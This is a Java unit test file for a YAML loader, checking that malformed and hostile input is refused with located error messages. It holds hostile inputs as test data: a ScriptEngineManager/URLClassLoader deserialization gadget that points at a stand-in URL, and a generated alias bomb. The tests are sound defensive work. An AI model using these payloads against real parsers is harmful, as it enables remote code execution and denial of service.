package dev.workflowguard.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

/** Malformed and hostile YAML ends in a clear, located error, never a stack trace or a hang. */
class YamlLoaderErrorsTest {

    private final YamlLoader loader = new YamlLoader(YamlLimits.DEFAULTS);

    private YamlException fail(String text) {
        return assertThrows(YamlException.class, () -> loader.loadAll(SourceFile.ofText("bad.yaml", text)));
    }

    @Test
    void badIndentationIsReportedWithFileLineColumnAndTheProblemInWords() {
        YamlException e = fail("controller:\n  registration_mode: enabled\n bad: x\n");
        assertEquals("bad.yaml", e.file());
        assertEquals(3, e.position().line());
        assertTrue(e.getMessage().matches("bad\\.yaml:3:\\d+: .+"), e.getMessage());
    }

    @Test
    void unclosedQuoteNamesWhereTheScalarStarted() {
        YamlException e = fail("a: \"open\nb: 1\n");
        assertTrue(e.getMessage().contains("quoted scalar"), e.getMessage());
        assertTrue(e.getMessage().contains("1:4"), e.getMessage());
    }

    @Test
    void messagesNeverQuoteTheOffendingLine() {
        YamlException e = fail("s3:\n  secretkey: \"AKIA-very-secret\n  other: [\n");
        assertFalse(e.getMessage().contains("AKIA-very-secret"), e.getMessage());
    }

    @Test
    void aHelmTemplateIsRecognised() {
        YamlException e = fail("controller:\n  registration_mode: {{ .Values.mode }}\n");
        assertTrue(e.getMessage().contains("Helm template"), e.getMessage());
        assertEquals(2, e.position().line());
    }

    @Test
    void globalTagsThatNameClassesAreRefused() {
        YamlException e = fail(
                "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertTrue(e.getMessage().contains("global tag"), e.getMessage());
    }

    @Test
    void aliasBombsAreRefused() {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i <= 30; i++) {
            text.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [*a")
                    .append(i - 1)
                    .append(", *a")
                    .append(i - 1)
                    .append("]\n");
        }
        YamlException e = assertThrows(
                YamlException.class,
                () -> new YamlLoader(new YamlLimits(1 << 20, 1 << 20, 64, 1000, 100_000))
                        .loadAll(SourceFile.ofText("bomb.yaml", text.toString())));
        assertTrue(e.getMessage().contains("alias"), e.getMessage());
    }

    @Test
    void tooManyAliasesAreRefusedByCount() {
        StringBuilder text = new StringBuilder("a: &a [x]\nb: [");
        for (int i = 0; i < 200; i++) {
            text.append(i == 0 ? "" : ", ").append("*a");
        }
        text.append("]\n");
        YamlException e = fail(text.toString());
        assertTrue(e.getMessage().contains("aliases"), e.getMessage());
        assertEquals(2, e.position().line(), "the line of the alias over the limit");
    }

    @Test
    void recursiveStructuresAreRefused() {
        YamlException e = fail("a: &a [*a]\n");
        assertTrue(e.getMessage().contains("recursive") || e.getMessage().contains("alias"), e.getMessage());
    }

    @Test
    void deepNestingIsRefusedWithTheLimitNamed() {
        String text = "b: 1\na: " + "[".repeat(300) + "]".repeat(300) + "\n";
        YamlException e = fail(text);
        assertTrue(e.getMessage().contains("maxNestingDepth"), e.getMessage());
        assertEquals(2, e.position().line(), "the line of the node over the limit");
    }

    @Test
    void controlCharactersAreReportedAsNotYaml() {
        YamlException e = fail("a: 1\nb: \u0000\n");
        assertTrue(e.getMessage().contains("U+0000"), e.getMessage());
        assertEquals(2, e.position().line());
    }

    @Test
    void complexKeysAreRefused() {
        YamlException e = fail("? [a, b]\n: 1\n");
        assertTrue(e.getMessage().contains("key must be a string"), e.getMessage());
    }
}
